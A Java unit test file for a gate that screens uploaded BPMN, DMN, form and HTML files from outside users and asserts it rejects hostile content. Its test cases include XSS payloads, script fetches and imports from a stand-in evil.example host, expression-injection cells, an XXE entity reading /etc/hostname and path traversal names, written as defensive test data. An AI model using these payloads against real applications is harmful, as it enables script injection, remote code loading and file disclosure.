package publicpost.process.allowed;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the gate says to files of strangers, without an engine. */
class ModelGateTest {

    private final ModelGate gate = new ModelGate(new Known());

    @ParameterizedTest(name = "{0}")
    @MethodSource("publicpost.process.allowed.HostileModels#all")
    void refusesAModelWithTheElementsIdAndName(String what, String model) {
        assertThat(check("hostile.bpmn", model)).isNotEmpty().allSatisfy(sentence -> assertThat(sentence)
                .startsWith("hostile.bpmn 的“坏步骤")
                .contains("（Bad）"));
    }

    @Test
    void takesAModelThatNamesOursOnly() {
        var model = HostileModels.process(
                """
                <serviceTask id="Close" name="了结" camunda:asyncBefore="true" camunda:delegateExpression="${closeMatter}">
                  <documentation>了结。依据：§二(三)。</documentation>
                </serviceTask>
                <userTask id="Ask" name="询问" camunda:candidateGroups="district, finance" camunda:dueDate="${dates.termEnds(execution)}"
                          camunda:formKey="embedded:deployment:rank.html" />
                <exclusiveGateway id="Choice" />
                <sequenceFlow id="F1" sourceRef="Begin" targetRef="Close" />
                <sequenceFlow id="F2" sourceRef="Close" targetRef="Ask" />
                <sequenceFlow id="F3" sourceRef="Ask" targetRef="Choice" />
                <sequenceFlow id="F4" sourceRef="Choice" targetRef="End">
                  <conditionExpression xsi:type="tFormalExpression">${outcome == 'A' || !(outcome != 'B' &amp;&amp; outcome != null)}</conditionExpression>
                </sequenceFlow>
                """);

        assertThat(check("good.bpmn", model)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<inputEntry id='Bad'><text>function(x) external { java: { class: \"java.lang.Runtime\" } }</text></inputEntry>",
                "<inputEntry id='Bad'><text>get value(code, \"x\") = 1</text></inputEntry>",
                "<inputEntry id='Bad'><text>for i in 1..1000000000 return i</text></inputEntry>",
                "<inputEntry id='Bad'><text>code.class.name = \"x\"</text></inputEntry>",
                "<inputEntry id='Bad' expressionLanguage='javascript'><text>true</text></inputEntry>",
                "<inputEntry id='Bad' expressionLanguage='juel'><text>${true}</text></inputEntry>",
                "<outputEntry id='Bad'><text>${''.getClass()}</text></outputEntry>",
                "<outputEntry id='Bad' expressionLanguage='groovy'><text>1</text></outputEntry>",
                "<outputEntry id='Bad'><text>{a: 1}.a</text></outputEntry>",
                "<literalExpression id='Bad'><text>1</text></literalExpression>",
                "<invocation id='Bad' />",
                "<inputEntry id='Bad' camunda:inputVariable='x'><text>1</text></inputEntry>",
            })
    void refusesATableThatIsMoreThanRowsOfConstants(String cell) {
        assertThat(check("hostile.dmn", table("https://www.omg.org/spec/DMN/20191111/MODEL/", cell)))
                .isNotEmpty()
                .allSatisfy(sentence -> assertThat(sentence).startsWith("hostile.dmn 的“Bad”："));
    }

    @Test
    void refusesATableOfAnOlderEditionWhoseCellsWouldBeTheEnginesOwnExpressions() {
        var table = table(
                "http://www.omg.org/spec/DMN/20151101/dmn.xsd", "<outputEntry id='Bad'><text>1</text></outputEntry>");

        assertThat(check("old.dmn", table)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"type\": \"html\", \"content\": \"<script>alert(1)</script>\"",
                "\"type\": \"iframe\", \"url\": \"https://evil.example\"",
                "\"type\": \"image\", \"source\": \"https://evil.example/x.png\"",
                "\"type\": \"expression\", \"expression\": \"=1\"",
                "\"type\": \"textfield\", \"key\": \"a\", \"label\": \"<img src=x onerror=alert(1)>\"",
                "\"type\": \"textfield\", \"key\": \"a\", \"label\": \"{{secret}}\"",
                "\"type\": \"textfield\", \"key\": \"a\", \"label\": \"=secret\"",
                "\"type\": \"text\", \"text\": \"[x](javascript:alert(1))\"",
                "\"type\": \"text\", \"text\": \"![x](//evil.example/x.png)\"",
                "\"type\": \"textfield\", \"key\": \"a\", \"properties\": {\"x\": \"y\"}",
                "\"type\": \"textfield\", \"key\": \"a\", \"conditional\": {\"hide\": \"=for i in 1..1000000000 return i\"}",
                "\"type\": \"select\", \"key\": \"a\", \"valuesExpression\": \"=secret\"",
            })
    void refusesAFormFieldThatIsMoreThanAField(String field) {
        var form = "{\"type\": \"default\", \"id\": \"f\", \"components\": [{\"id\": \"Bad\", %s}]}".formatted(field);

        assertThat(check("hostile.form", form)).isNotEmpty().allSatisfy(sentence -> assertThat(sentence)
                .contains("Bad"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<script cam-script type='text/form-script'>fetch('https://evil.example')</script>",
                "<script cam-script type='text/form-script'>import('https://evil.example/x.js')</script>",
                "<script cam-script type='text/form-script' src='https://evil.example/x.js'></script>",
                "<script cam-script type='text/form-script'>import('/forms/steps.js').then(function (s) { return s.open(camForm); }); alert(1)</script>",
                "<link rel='stylesheet' href='https://evil.example/x.css'>",
                "<img src='https://evil.example/x.png'>",
                "<iframe src='/camunda'></iframe>",
                "<p onclick='alert(1)'>x</p>",
                "<p ng-init='x = 1'>x</p>",
                "<p style='background: url(https://evil.example)'>x</p>",
                "<p>{{constructor.constructor('alert(1)')()}}</p>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='//evil.example'>x</a>",
                "<a href='/\\evil.example'>x</a>",
                "<form action='https://evil.example'><button>x</button></form>",
                "<button formaction='https://evil.example'>x</button>",
                "<input cam-variable-name='x' name='x'>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext></mtext></math>",
                "<base href='https://evil.example/'>",
                "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
                "<object data='/x'></object>",
                "<template><p onclick='alert(1)'>x</p></template>",
                "<!-- <script> --><p>x</p>",
            })
    void refusesAPageThatIsMoreThanFields(String html) {
        assertThat(check("hostile.html", html)).isNotEmpty().allMatch(sentence -> sentence.startsWith("hostile.html"));
    }

    @Test
    void refusesEntitiesOfOtherFiles() {
        var declared =
                """
                <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>
                """;

        assertThat(check("x.bpmn", declared + "<x>&e;</x>")).containsExactly("x.bpmn：不允许有 DOCTYPE 和外部实体");
        assertThat(check("x.dmn", declared + "<x>&e;</x>")).containsExactly("x.dmn：不允许有 DOCTYPE 和外部实体");
    }

    @Test
    void refusesWhatIsNoModelOrTooLarge() {
        assertThat(check("x.groovy", "1")).hasSize(1).allMatch(sentence -> sentence.contains("只能部署"));
        assertThat(check("x.cmmn", "<x/>")).hasSize(1);
        assertThat(check("../x.bpmn", "<x/>")).hasSize(1).allMatch(sentence -> sentence.contains("文件名"));
        assertThat(check("x.bpmn", "<a>")).hasSize(1).allMatch(sentence -> sentence.contains("不是可以读取的 XML"));
        assertThat(check("x.bpmn", "<a>".repeat(100) + "</a>".repeat(100))).containsExactly("x.bpmn：嵌套超过 40 层");
        assertThat(check("x.bpmn", "<?php x?><a/>").isEmpty()).isFalse();
        assertThat(check("x.form", "[")).hasSize(1);
        assertThat(gate.check("x.bpmn", new byte[ModelGate.LARGEST + 1]))
                .singleElement()
                .matches(one -> one.getMessage().contains("5 MB"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"processes", "forms"})
    void findsNothingWrongWithOurTablesAndForms(String folder) throws IOException {
        try (var files = Files.newDirectoryStream(Path.of(folder), "*.{dmn,form,html}")) {
            for (var file : files) {
                var name = file.getFileName().toString();
                assertThat(gate.check(name, Files.readAllBytes(file))).as(name).isEmpty();
            }
        }
    }

    private List<String> check(String file, String content) {
        return gate.check(file, content.getBytes(UTF_8)).stream()
                .map(Forbidden::getMessage)
                .toList();
    }

    private static String table(String namespace, String cell) {
        return """
                <definitions xmlns="%s" xmlns:camunda="http://camunda.org/schema/1.0/dmn" id="m" name="m" namespace="x">
                  <decision id="d" name="d"><decisionTable id="t">
                    <input id="i"><inputExpression id="ie"><text>code</text></inputExpression></input>
                    <output id="o" name="o" typeRef="string" />
                    <rule id="r">%s</rule>
                  </decisionTable></decision>
                </definitions>
                """
                .formatted(namespace, cell);
    }
}
